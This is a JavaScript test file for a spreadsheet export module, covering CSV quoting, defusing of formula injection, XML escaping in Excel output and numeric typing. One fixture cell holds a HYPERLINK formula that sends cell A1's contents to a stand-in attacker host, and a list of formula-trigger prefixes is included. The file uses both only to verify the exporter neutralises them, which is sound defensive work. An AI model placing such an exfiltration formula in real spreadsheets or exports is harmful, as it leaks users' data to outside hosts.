import { expect, test } from "vitest";
import { csvDocument, DecimalNumber, excelDocument } from "./spreadsheet.js";

const TABLE = {
  name: "Orders <1>",
  columns: ["id", "row", "date", "summary", "paid"],
  rows: [
    ["1", 7n, new Date(0), 'a "big" one,\nwith & <all>', true],
    ["2", 8n, new Date(86_400_000), '=HYPERLINK("https://thief.example/?"&A1)', false],
  ],
};

test("CSV quotes every cell and disarms what a spreadsheet would calculate", () => {
  const { mediaType, content } = csvDocument(TABLE);
  expect(mediaType).toBe("text/csv; charset=utf-8");
  expect(content).toBe(
    [
      '"id","row","date","summary","paid"',
      '"1","7","1970-01-01T00:00:00Z","a ""big"" one,\nwith & <all>","yes"',
      '"2","8","1970-01-02T00:00:00Z","\'=HYPERLINK(""https://thief.example/?""&A1)","no"',
      "",
    ].join("\r\n"),
  );
});

test.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])("%j is not a formula", (text) => {
  const { content } = csvDocument({ name: "", columns: [], rows: [[text]] });
  expect(content).toBe(`\r\n"'${text}"\r\n`);
});

test("Excel's XML types its cells and holds no character that XML does not know", () => {
  const { content } = excelDocument({ ...TABLE, rows: [...TABLE.rows, ["\u0001\uD800x", 1n, new Date(0), "", true]] });
  expect(content).toContain('<Worksheet ss:Name="Orders &lt;1&gt;">');
  expect(content).toContain('<Data ss:Type="Number">7</Data>');
  expect(content).toContain('<Cell ss:StyleID="time"><Data ss:Type="DateTime">1970-01-01T00:00:00</Data></Cell>');
  expect(content).toContain("a &quot;big&quot; one,\nwith &amp; &lt;all&gt;");
  expect(content).toContain('<Data ss:Type="String">=HYPERLINK(');
  expect(content).toContain('<Data ss:Type="String">x</Data>');
});

test("numbers with decimals are numbers, which a column can be summed of", () => {
  const table = { name: "", columns: ["amount"], rows: [[new DecimalNumber("6.5")]] };
  expect(csvDocument(table).content).toBe('"amount"\r\n6.5\r\n');
  expect(excelDocument(table).content).toContain('<Data ss:Type="Number">6.5</Data>');
});
